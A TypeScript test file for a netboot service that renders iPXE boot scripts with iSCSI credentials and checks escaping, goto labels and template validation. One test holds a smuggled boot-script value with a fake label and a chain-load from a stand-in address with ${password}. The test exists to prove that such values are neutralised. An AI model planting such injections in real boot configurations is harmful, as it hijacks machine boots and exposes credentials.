import { join } from 'node:path'
import t from 'tap'
import { loadScriptTemplates, renderScript } from '../../../src/netboot/ipxe/script.js'
import { bootTarget } from '../../fakes/boot-target.js'

const policy = { address: '198.18.0.1', httpPort: 8080 }

void t.test('the server script logs in with the server own name and secret and boots its disk', async (t) => {
  const { text, script } = renderScript(await loadScriptTemplates('boot'), bootTarget(), policy)
  t.equal(script, 'server')
  const lines = text.split('\n')
  t.equal(lines[0], '#!ipxe')
  t.ok(lines.includes(`set username:hexraw ${Buffer.from('web1').toString('hex')}`))
  t.ok(lines.includes(`set password:hexraw ${Buffer.from('secret secret && ${x}').toString('hex')}`))
  t.ok(
    lines.includes(
      'sanboot --drive 0x80 iscsi:198.18.0.1::3260:0:iqn.2026-01.org.example:web1 || goto failed',
    ),
  )
  t.match(text, 'http://198.18.0.1:8080/boot/tok_EN-1/failed?step=sanboot&errno=${failure}&try=${try}')
  t.notMatch(text, '{{')
  t.notMatch(text, 'secret')
})

void t.test('every goto of a script has its label, and the server script ends by a reboot', async (t) => {
  const { text } = renderScript(await loadScriptTemplates('boot'), bootTarget(), policy)
  for (const [, label = ''] of text.matchAll(/goto (\w+)/g)) t.match(text, `\n:${label}\n`)
  t.match(text, /\nreboot\n$/)
})

void t.test('local and unknown machines go on to their next boot entry, by exit 1 on UEFI', async (t) => {
  const templates = await loadScriptTemplates('boot')
  const local = renderScript(templates, bootTarget({ intent: 'local' }), policy)
  const unknown = renderScript(templates, undefined, policy)
  t.equal(local.script, 'local')
  t.equal(unknown.script, 'unknown')
  for (const { text } of [local, unknown]) {
    t.match(text, 'iseq ${platform} efi && exit 1 || exit 0')
    t.notMatch(text, 'sanboot')
  }
})

void t.test('a hostile server changes no line but its own', async (t) => {
  const templates = await loadScriptTemplates('boot')
  const evil = 'x\n:failed\nchain http://198.18.9.9/ || ${password} $& $1'
  const target = bootTarget({
    serverName: evil,
    iqn: evil,
    initiatorIqn: evil,
    chapUser: evil,
    portalAddress: evil,
  })
  const { text } = renderScript(templates, target, policy)
  const plain = renderScript(templates, bootTarget(), policy).text
  t.equal(text.split('\n').length, plain.split('\n').length)
  const commands = (script: string): string[] => script.split('\n').map((line) => line.split(' ')[0] ?? '')
  t.same(commands(text), commands(plain))
  t.notMatch(text, '${password}')
})

void t.test(
  'a missing template, one without its magic, or with an unknown placeholder is refused',
  async (t) => {
    const good = '#!ipxe\nexit\n'
    const directory = t.testdir({
      none: {},
      magic: { 'server.ipxe': 'echo\n', 'local.ipxe': good, 'unknown.ipxe': good },
      name: { 'server.ipxe': `${good}echo {{secret:text}}\n`, 'local.ipxe': good, 'unknown.ipxe': good },
      form: { 'server.ipxe': `${good}echo {{iqn:raw}}\n`, 'local.ipxe': good, 'unknown.ipxe': good },
    })
    for (const name of ['none', 'magic', 'name', 'form']) {
      await t.rejects(loadScriptTemplates(join(directory, name)), { code: 'CONFIG_INVALID' }, name)
    }
  },
)
